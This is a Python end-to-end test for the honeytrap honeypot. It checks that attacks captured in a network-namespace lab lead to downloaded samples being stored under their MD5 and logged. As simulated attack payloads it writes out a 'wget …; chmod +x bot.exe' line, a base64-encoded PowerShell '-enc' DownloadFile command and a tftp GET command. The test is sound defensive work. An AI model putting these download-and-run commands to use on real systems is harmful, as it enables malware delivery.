"""End to end through the daemon: an attacker tells its 'victim' to fetch malware; honeytrap's
dynamic server records the attack at once, the download plugins fetch the sample from the
attacker's own server in the download pool, SaveFile stores it under its MD5 and attackers.json
lists it on the attack's follow-up line; the plugins' download counts reach SIGUSR1's
statistics line."""

from __future__ import annotations

import base64
import hashlib
import os
import signal
import socket
import time
from pathlib import Path

import download_servers
import pytest
from daemon import Honeytrap, nfq_rules
from netns import Lab, inside

from honeytrap.recorder import STATS_INTERVAL

# SIGUSR1 is sent this often while waiting for the recorder's next statistics.
SIGNAL_INTERVAL = 1.0


def attack(lab: Lab, port: int, payload: bytes) -> None:
    with inside(lab.attacker):
        sock = socket.create_connection((lab.sensor.ip4, port), timeout=5)
    try:
        sock.sendall(payload)
        sock.shutdown(socket.SHUT_WR)
        sock.recv(65536)
    finally:
        sock.close()


def statistics_with(ht: Honeytrap, wanted: str, timeout: float) -> dict[str, str]:
    """Send SIGUSR1 every SIGNAL_INTERVAL until the last statistics line it logged carries
    `wanted` (name=value), or `timeout`; that line's fields. The recorder reports the plugins'
    statistics every STATS_INTERVAL, so the master may know them only some seconds after the
    event."""
    deadline = time.monotonic() + timeout
    fields: dict[str, str] = {}
    while wanted not in [f"{k}={v}" for k, v in fields.items()]:
        if time.monotonic() > deadline:
            break
        ht.signal(signal.SIGUSR1)
        time.sleep(SIGNAL_INTERVAL)
        lines = [line for line in ht.logfile.read_text(errors="replace").splitlines()
                 if "statistics: " in line]
        if lines:
            text = lines[-1].split("statistics: ", 1)[1]
            fields = dict(field.partition("=")[::2] for field in text.split())
    return fields


@pytest.mark.slow
def test_downloads_found_in_attacks_land_under_their_md5_and_in_attackers_json(
    lab: Lab, tmp_path: Path
) -> None:
    root = tmp_path / "www"
    root.mkdir()
    sample = os.urandom(40_000)
    (root / "bot.exe").write_bytes(sample)
    http_port = download_servers.start(
        lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", str(tmp_path / "http.log")
    )
    tftp_port = download_servers.start(lab, lab.attacker, "tftp", str(root), lab.attacker.ip4)
    nfq_rules(lab.sensor)
    ht = Honeytrap(lab, tmp_path / "ht", args=["-u", "nobody", "-g", "nogroup"])
    ht.extra_config = 'download_allow = ["198.18.0.0/15"]'
    ht.plugins = f"""
plugin-b64Decode = ""
plugin-tftpDownload = ""
plugin-httpDownload = ""
plugin-SaveFile = {{ attacks_dir = "{ht.attacks_dir}" downloads_dir = "{ht.downloads_dir}" }}
plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
"""
    ht.start()
    try:
        url = f"http://{lab.attacker.ip4}:{http_port}/bot.exe"
        attack(lab, 80, f"GET /x HTTP/1.0\r\n\r\nwget {url}; chmod +x bot.exe\r\n".encode())
        hidden = base64.b64encode(f"(New-Object Net.WebClient).DownloadFile('{url}','b.exe')"
                                  .encode("utf-16-le"))
        attack(lab, 5985, b"powershell -enc " + hidden + b"\r\n")
        assert tftp_port == 69  # Windows' tftp knows no other port
        attack(lab, 445, f"tftp -i {lab.attacker.ip4} GET bot.exe\r\n".encode())
        # three attacks recorded at once, then a follow-up line for each with its download
        records = ht.wait_records(6, timeout=60)
        # three samples fetched (the decoded PowerShell line's too), counted by the plugins
        stats = statistics_with(ht, "downloads=3", timeout=2 * STATS_INTERVAL + 10)
        assert stats.get("downloads") == "3", stats
        assert "download_failures" in stats
    finally:
        assert ht.stop() == 0
    md5 = hashlib.md5(sample).hexdigest()
    assert (ht.downloads_dir / md5).read_bytes() == sample
    attacks = [r for r in records if not r.get("follow_up")]
    assert all(r["download_count"] == 0 for r in attacks)  # recorded before any download ended
    ports = {r["id"]: r["attack_connection"]["local_port"] for r in attacks}  # type: ignore[index]
    followups = [r for r in records if r.get("follow_up")]
    by_port = {ports[r["id"]]: r for r in followups}  # type: ignore[index]
    assert len(attacks) == len(by_port) == 3, records
    for port in (80, 5985):
        record = by_port[port]
        assert record["download_count"] == 1, record
        assert record["analysis"]["SaveFile"]["downloads"] == [  # type: ignore[index]
            f"{ht.downloads_dir}/{md5}"]
        download = record["downloads"][0]  # type: ignore[index]
        assert download["type"] == "http"
        assert download["payload"]["md5_hash"] == md5
        assert download["uri"] == url
    # found in decoded data, listed on the real attack
    assert {r["is_virtual"] for r in attacks} == {False}
    assert by_port[445]["downloads"][0]["type"] == "tftp"  # type: ignore[index]
    # one file for the one sample fetched three times, and no temp files left beside it
    assert sorted(p.name for p in ht.downloads_dir.iterdir()) == [md5]
